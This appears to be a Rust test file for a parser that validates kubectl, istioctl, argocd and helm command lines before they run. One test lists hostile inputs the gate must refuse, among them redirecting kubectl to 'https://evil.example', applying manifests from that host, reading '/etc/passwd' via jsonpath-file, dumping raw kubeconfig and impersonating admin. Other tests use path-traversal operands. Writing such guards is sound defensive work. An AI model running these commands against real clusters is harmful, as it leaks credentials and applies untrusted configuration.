//! What is read, and what is refused, of words of the four tools.

use super::*;
use crate::command::{adjustment::Adjustment, split};

fn read(text: &str) -> Result<Invocation, CommandError> {
    let catalogue = Catalogue::carried()
        .unwrap()
        .into_iter()
        .find(|catalogue| catalogue.tool() == Tool::KUBECTL)
        .unwrap();
    parse(&catalogue, split(Tool::KUBECTL, text).unwrap(), None)
}

fn argv(text: &str) -> String {
    read(text).unwrap().argv().join(" ")
}

#[test]
fn every_spelling_renders_to_the_same_argv() {
    let one = "kubectl --v=0 get --all-namespaces=true --output=wide pods.v1.";
    for text in [
        "get pods -A -o wide",
        "get pods -Aowide",
        "get po -Ao=wide",
        "get -A --output wide pod",
        "get --output=wide pods --all-namespaces",
        "get pods.v1. -A=true -owide",
    ] {
        assert_eq!(argv(text), one, "{text}");
    }
    assert_eq!(
        argv("-n web get pods"),
        "kubectl --v=0 get --namespace=web pods.v1."
    );
    assert_eq!(
        argv("rollout -n web status deploy/web"),
        "kubectl --v=0 rollout status --namespace=web deployments.v1.apps/web"
    );
    assert_eq!(
        argv("get po,svc"),
        "kubectl --v=0 get pods.v1.,services.v1."
    );
    assert_eq!(
        argv("logs deploy/web -p"),
        "kubectl --v=0 logs --previous=true deployments.v1.apps/web"
    );
}

#[test]
fn rendering_and_reading_again_changes_nothing() {
    for text in [
        "get pods -A -o wide",
        "logs web-0 -c app --tail=5",
        "get pods -L a -L b",
        "exec web-0 -- ls -la",
        "--help",
        "delete pod web --dry-run",
    ] {
        let invocation = read(text).unwrap();
        let catalogue = Catalogue::carried().unwrap().remove(0);
        let again = parse(&catalogue, invocation.argv().split_off(1), None).unwrap();
        assert_eq!(again, invocation, "{text}");
    }
}

#[test]
fn a_flag_before_the_verb_must_be_persistent_on_the_root() {
    // cobra takes `get` for the flag's value and runs `delete` (cobra v1.10.2 command.go,
    // stripFlags).
    assert!(
        matches!(read("--recursive get delete pods web"), Err(CommandError::UnknownFlag { flag, .. }) if flag == "--recursive".into())
    );
    assert!(matches!(
        read("rollout -R status deploy/web"),
        Err(CommandError::UnknownFlag { .. })
    ));
    assert!(matches!(
        read("--help get pods"),
        Err(CommandError::FlagBeforeVerb { .. })
    ));
    // Found by the differential test: a group that takes the next word hides the verb from
    // cobra's search,
    assert!(matches!(
        read("create -Rk namespace"),
        Err(CommandError::MissingValue { .. })
    ));
    // and a flag of the verb's own hides the root's flag of that name, its letter included.
    assert!(matches!(
        read("config set-cluster -sname"),
        Err(CommandError::UnknownFlag { .. })
    ));
    assert!(matches!(
        read("config --insecure-skip-tls-verify=true set-cluster x"),
        Err(CommandError::UnknownFlag { .. })
    ));
    assert!(matches!(
        read("apply --filename=x view-last-applied secret/db"),
        Err(CommandError::FlagBeforeVerb { .. })
    ));
}

#[test]
fn what_is_not_in_the_catalogue_does_not_exist() {
    assert!(
        matches!(read("gett pods"), Err(CommandError::UnknownVerb { nearest: Some(name), .. }) if *name == *"get")
    );
    assert!(matches!(
        read("__complete get pods"),
        Err(CommandError::UnknownVerb { .. })
    ));
    assert!(
        matches!(read("get pods --outpu=name"), Err(CommandError::UnknownFlag { nearest: Some(name), .. }) if name == "--output")
    );
    for text in [
        "get pods --NO-HEADERS",
        "get pods --no_headers",
        "get pods -Z",
        "get pods -test.v",
        "get pods --kuberc=/x",
        "create foo",
    ] {
        assert!(
            matches!(
                read(text),
                Err(CommandError::UnknownFlag { .. } | CommandError::UnknownVerb { .. })
            ),
            "{text}: {:?}",
            read(text)
        );
    }
}

#[test]
fn values_have_their_flags_type() {
    assert!(matches!(
        read("get pods -o="),
        Err(CommandError::MissingValue { .. })
    ));
    assert!(matches!(
        read("get pods -o"),
        Err(CommandError::MissingValue { .. })
    ));
    assert!(matches!(
        read("logs web-0 --tail=many"),
        Err(CommandError::Value { .. })
    ));
    assert!(matches!(
        read("wait pod/x --for=delete --timeout=30"),
        Err(CommandError::Value { .. })
    ));
    assert!(matches!(
        read("get pods --watch=maybe"),
        Err(CommandError::Value { .. })
    ));
    // Go reads it as eight.
    assert!(matches!(
        read("logs web-0 --tail=010"),
        Err(CommandError::Value { .. })
    ));
    assert!(matches!(
        read("get pods -n ''"),
        Err(CommandError::Value { .. })
    ));
    assert!(matches!(
        read("get pods -n ../secrets"),
        Err(CommandError::Value { .. })
    ));
    assert!(matches!(
        read("get pods --namespace=a -n b"),
        Err(CommandError::RepeatedFlag { .. })
    ));
    // A flag with a bare value never takes the next word: `client` is a name here, as for
    // kubectl.
    assert_eq!(
        argv("delete pod web --dry-run client"),
        "kubectl --v=0 delete --dry-run=unchanged pods.v1. web client"
    );
}

#[test]
fn operands_are_names_and_known_resources() {
    for text in [
        "get pods ''",
        "get pods -",
        "get pods 'web 0'",
        "get pods ../secrets/db",
        "get pods a%2f..%2fsecrets",
        "get pods .",
        "get pods @x",
        "get pods/a b",
    ] {
        assert!(
            matches!(
                read(text),
                Err(CommandError::Operand { .. } | CommandError::UnknownResource { .. })
            ),
            "{text}: {:?}",
            read(text)
        );
    }
    for text in [
        "delete all",
        "get sneaky",
        "delete pods,all",
        "get networ\u{212a}policies",
        "get secrets.v1.apps",
    ] {
        assert!(
            matches!(read(text), Err(CommandError::UnknownResource { .. })),
            "{text}: {:?}",
            read(text)
        );
    }
    assert_eq!(
        read("get SECRETS,po db").unwrap().resources(),
        ["pods", "secrets"]
    );
    assert_eq!(
        read("get widgets.v1.example.com").unwrap().resources(),
        ["widgets.example.com"]
    );
    // kubectl would read this as version `example` of group `com`.
    assert!(matches!(
        read("get widgets.example.com"),
        Err(CommandError::UnknownResource { .. })
    ));
    assert!(
        matches!(read("get gateways"), Err(CommandError::AmbiguousResource { claimants, .. }) if claimants == ["gateways.networking.istio.io", "gateways.gateway.networking.k8s.io"])
    );
}

fn of_tool(tool: Tool, text: &str) -> Result<Invocation, CommandError> {
    let catalogue = Catalogue::carried()
        .unwrap()
        .into_iter()
        .find(|catalogue| catalogue.tool() == tool)
        .unwrap();
    parse(&catalogue, split(tool, text).unwrap(), None)
}

#[test]
fn writing_verbs_name_resources_too() {
    for (text, resources, names) in [
        ("label pod web app=x tier-", &["pods"][..], &["web"][..]),
        (
            "annotate deploy/web deploy/api note='a b'",
            &["deployments.apps"],
            &["web", "api"],
        ),
        ("taint node n1 key=v:NoSchedule other-", &["nodes"], &["n1"]),
        (
            "set image deploy/web app=nginx:1.27",
            &["deployments.apps"],
            &["web"],
        ),
        (
            "set env deployment web A=1 B-",
            &["deployments.apps"],
            &["web"],
        ),
        (
            "set serviceaccount deploy web builder",
            &["deployments.apps"],
            &["web"],
        ),
        ("cordon n1", &["nodes"], &["n1"]),
        ("drain node/n1", &["nodes"], &["n1"]),
        ("top pod", &["pods"], &[]),
        (
            "certificate approve a",
            &["certificatesigningrequests.certificates.k8s.io"],
            &["a"],
        ),
        (
            "create configmap settings --from-literal=a=b",
            &["configmaps"],
            &["settings"],
        ),
        (
            "create secret generic db --from-literal=a=b",
            &["secrets"],
            &["db"],
        ),
        ("create token builder", &["serviceaccounts"], &["builder"]),
        ("run web --image=nginx", &["pods"], &["web"]),
        (
            "exec deploy/web -c app -- ls",
            &["deployments.apps"],
            &["web"],
        ),
        ("apply view-last-applied secret/db", &["secrets"], &["db"]),
    ] {
        let invocation = read(text).unwrap_or_else(|error| panic!("{text}: {error}"));
        assert_eq!(
            (invocation.resources(), invocation.names()),
            (&own(resources)[..], &own(names)[..]),
            "{text}"
        );
    }
    for text in [
        "label pods web a=b other",
        "label pods web =x a=b",
        "exec web-0 ls",
        "top pod pods/web",
        "create token sa/builder",
    ] {
        assert!(
            matches!(read(text), Err(CommandError::Operand { .. })),
            "{text}: {:?}",
            read(text)
        );
    }
}

fn own(words: &[&str]) -> Vec<String> {
    words.iter().map(|word| (*word).to_owned()).collect()
}

#[test]
fn a_list_of_numbers_holds_numbers() {
    // Found by 100,000 lines of tests/differential.
    let catalogues = Catalogue::carried().unwrap();
    let argocd = catalogues
        .iter()
        .find(|catalogue| catalogue.tool() == Tool::ARGOCD)
        .unwrap();
    let read = |text| parse(argocd, split(Tool::ARGOCD, text).unwrap(), None);
    assert_eq!(
        read("app manifests web --source-positions 1,2")
            .unwrap()
            .flags()["source-positions"],
        own(&["1", "2"])
    );
    for text in [
        "app manifests web --source-positions a",
        "app manifests web --source-positions 1,b",
    ] {
        assert!(
            matches!(read(text), Err(CommandError::Value { .. })),
            "{text}"
        );
    }
}

#[test]
fn what_contacts_nobody_is_known() {
    for (tool, text, offline) in [
        (Tool::KUBECTL, "completion bash", true),
        (Tool::KUBECTL, "version --client", true),
        (Tool::KUBECTL, "version", false),
        (Tool::KUBECTL, "delete pod web-0 --help", true),
        (Tool::ISTIOCTL, "completion bash", true),
        (Tool::ISTIOCTL, "manifest generate", true),
        (
            Tool::ISTIOCTL,
            "manifest generate --cluster-specific",
            false,
        ),
        (Tool::ISTIOCTL, "analyze --use-kube=false", true),
        (Tool::ISTIOCTL, "analyze", false),
        (Tool::ISTIOCTL, "version --remote=false", true),
        (Tool::ISTIOCTL, "waypoint generate", false), // for the namespace of the kubeconfig
        (Tool::ARGOCD, "account bcrypt --password=x", true),
        (Tool::ARGOCD, "account get-user-info", false),
        (Tool::HELM, "version", true),
        (Tool::HELM, "list", false),
    ] {
        assert_eq!(of_tool(tool, text).unwrap().is_offline(), offline, "{text}");
    }
}

#[test]
fn a_dump_looks_into_the_namespace_of_the_context_too_where_none_is_named() {
    for (text, expected) in [
        ("cluster-info dump", &["kube-system", "context"][..]),
        ("cluster-info dump -n web", &["kube-system", "web"]),
        (
            "cluster-info dump --namespaces=web",
            &["kube-system", "web"],
        ),
    ] {
        let read = of_tool(Tool::KUBECTL, text).unwrap();
        let crate::command::Namespaces::These(mut found) = read.namespaces("context") else {
            panic!("{text}")
        };
        found.sort_unstable();
        let mut expected = expected.to_vec();
        expected.sort_unstable();
        assert_eq!(found, expected, "{text}");
    }
}

#[test]
fn namespaces_and_charts_inside_of_operands_are_seen() {
    for (tool, text, names, namespaces, charts) in [
        (
            Tool::ISTIOCTL,
            "pc cluster web-0.team-a",
            &["web-0"][..],
            &["team-a"][..],
            &[][..],
        ),
        (
            Tool::ISTIOCTL,
            "pc cluster deploy/web.v2.team-a",
            &["web.v2"],
            &["team-a"],
            &[],
        ),
        (Tool::ISTIOCTL, "x describe svc web", &["web"], &[], &[]),
        (
            Tool::ARGOCD,
            "app get team-a/web",
            &["web"],
            &["team-a"],
            &[],
        ),
        (
            Tool::ARGOCD,
            "app sync web api -N team-b",
            &["web", "api"],
            &["team-b"],
            &[],
        ),
        (Tool::ARGOCD, "app rollback web 3", &["web"], &[], &[]),
        (
            Tool::HELM,
            "install web oci://charts.example.com/web",
            &["web"],
            &[],
            &["oci://charts.example.com/web"],
        ),
        (
            Tool::HELM,
            "upgrade web stable/web -n team-a",
            &["web"],
            &["team-a"],
            &["stable/web"],
        ),
        (Tool::HELM, "rollback web 2", &["web"], &[], &[]),
        (Tool::HELM, "uninstall web api", &["web", "api"], &[], &[]),
    ] {
        let invocation = of_tool(tool, text).unwrap_or_else(|error| panic!("{text}: {error}"));
        let found = (
            invocation.names().to_vec(),
            invocation.own_namespaces(),
            invocation.charts().to_vec(),
        );
        assert_eq!(
            found,
            (own(names), namespaces.to_vec(), own(charts)),
            "{text}"
        );
    }
    for (tool, text) in [
        (Tool::ISTIOCTL, "pc cluster web-0."),
        (Tool::ISTIOCTL, "pc cluster ../x.team-a"),
        (Tool::ARGOCD, "app get a/b/c"),
        (Tool::ARGOCD, "app get Team/web"),
        (Tool::HELM, "install web ./chart"),
        (Tool::HELM, "install web chart"),
        (Tool::HELM, "install web http://charts.example.com/web.tgz"),
        (Tool::HELM, "template web file:///x"),
        (Tool::HELM, "status a/b"),
    ] {
        let found = of_tool(tool, text);
        assert!(
            matches!(found, Err(CommandError::Operand { .. })),
            "{text}: {found:?}"
        );
    }
}

#[test]
fn what_no_policy_may_allow_travels_with_the_command() {
    for text in [
        "get pods --token=x",
        "get pods -s https://evil.example",
        "get --raw=/debug/pprof",
        "config use-context prod",
        "config view --raw",
        "proxy",
        "edit deploy/web",
        "apply -f /x.yaml",
        "apply -f ../x.yaml",
        "apply -f -,./x.yaml",
        "apply -f https://evil.example/x.yaml",
        "apply -f .",
        "apply -f '*.yaml'",
        "apply -k x.yaml",
        "apply -R -f x.yaml",
        "patch deploy web --patch-file=-",
        "patch deploy web --patch-file=/dev/stdin",
        "get pods -o jsonpath-file=/etc/passwd",
        "get pods -o go-template-file --template=/x",
        "delete pod web --help --as=admin",
    ] {
        assert!(read(text).unwrap().never().is_some(), "{text}");
    }
    for text in [
        "get pods",
        "apply -f -",
        "apply -f x.yaml,y.yaml -f z",
        "patch deploy web --patch-file=x",
        "config view --help",
        "get pods -o jsonpath={.a}",
        "debug web-0 --profile=general --image=x",
    ] {
        assert_eq!(read(text).unwrap().never(), None, "{text}");
    }
}

#[test]
fn the_requests_namespace_is_the_commands_or_an_error() {
    let catalogue = Catalogue::carried().unwrap().remove(0);
    let of = |text: &str| {
        parse(&catalogue, split(Tool::KUBECTL, text).unwrap(), Some("web"))
            .map(|invocation| invocation.argv().join(" "))
    };
    assert_eq!(
        of("get pods").unwrap(),
        "kubectl --v=0 get --namespace=web pods.v1."
    );
    assert_eq!(
        of("get pods -n web").unwrap(),
        "kubectl --v=0 get --namespace=web pods.v1."
    );
    assert!(matches!(
        of("get pods -n other"),
        Err(CommandError::NamespaceConflict { .. })
    ));
}

#[test]
fn all_is_the_ten_types_of_every_api_server_and_nothing_that_a_cluster_adds() {
    let all = read("get all -n web").unwrap();
    assert_eq!(all.resources().len(), 10);
    assert_eq!(
        all.operands(),
        [
            "pods.v1.,replicationcontrollers.v1.,services.v1.,daemonsets.v1.apps,deployments.v1.apps,replicasets.v1.apps,\
             statefulsets.v1.apps,horizontalpodautoscalers.v2.autoscaling,cronjobs.v1.batch,jobs.v1.batch"
        ]
    );
    assert!(
        matches!(all.adjustments(), [Adjustment::Replaced { word, used, .. }] if word == "all" && used.starts_with("pods,")),
        "{:?}",
        all.adjustments()
    );
    let both = read("describe all,secrets").unwrap();
    assert!(both.resources().contains(&"secrets".to_owned()));
    for text in ["get all web", "get all/web", "delete all", "label all a=b"] {
        assert!(read(text).is_err(), "{text}");
    }
}

#[test]
fn a_terminal_that_is_asked_for_is_left_out_and_said() {
    let exec = read("exec -it web-0 -c app -- ls").unwrap();
    assert_eq!(
        exec.argv().join(" "),
        "kubectl --v=0 exec --container=app web-0 -- ls"
    );
    let words: Vec<String> = exec.adjustments().iter().map(ToString::to_string).collect();
    assert_eq!(
        words,
        [
            "left out `--stdin`: nothing is typed here, so the program reads an empty input",
            "left out `--tty`: there is no terminal here"
        ]
    );
    // Without --stdin, `run` would not wait, and refuse --rm.
    let run = read("run -it --rm probe --image=busybox --restart=Never -- id").unwrap();
    assert_eq!(run.flag("attach"), Some("true"));
    assert!(run.adjustments().contains(&Adjustment::Added {
        word: "--attach=true".into()
    }));
    let plain = read("run probe --image=busybox --tty=false -- id").unwrap();
    assert!(plain.adjustments().is_empty());
}

#[test]
fn what_elsewhere_is_called_otherwise_is_told_and_no_question_leads_to_a_change() {
    for (text, instead) in [
        ("watch pods", "write `get`"),
        ("log web-0", "write `logs`"),
        ("restart deploy/web", "write `rollout restart`"),
        ("version --short", "leave it out"),
        ("events --sort-by=.lastTimestamp", "leave it out"),
    ] {
        let help = read(text).unwrap_err().help();
        assert!(help.starts_with(instead), "{text}: {help}");
    }
    for (text, help) in [
        ("gte pods", "did you mean `get`?"),
        ("delte pod web", "did you mean `delete`?"),
        (
            "batch pods",
            "`kubectl --help` lists the commands; plugins are not run here",
        ),
    ] {
        assert_eq!(read(text).unwrap_err().help(), help, "{text}");
    }
}

#[test]
fn no_word_is_a_misnomer_that_its_tool_has() {
    for catalogue in Catalogue::carried().unwrap() {
        for row in catalogue.tool().spec().misnomers {
            let words = row.command.split(' ').map(str::to_owned).collect();
            let has = catalogue.lineage(&crate::catalogue::CommandPath::new(words));
            let known = match row.flag {
                None => has.is_some(),
                Some(flag) => has.is_some_and(|lineage| {
                    flags_in_scope(&lineage).any(|known| {
                        flag == format!("--{}", known.name)
                            || known
                                .shorthand
                                .is_some_and(|letter| flag == format!("-{letter}"))
                    })
                }),
            };
            assert!(
                !known,
                "{} {} has {:?}",
                catalogue.tool(),
                row.command,
                row.flag
            );
        }
    }
}
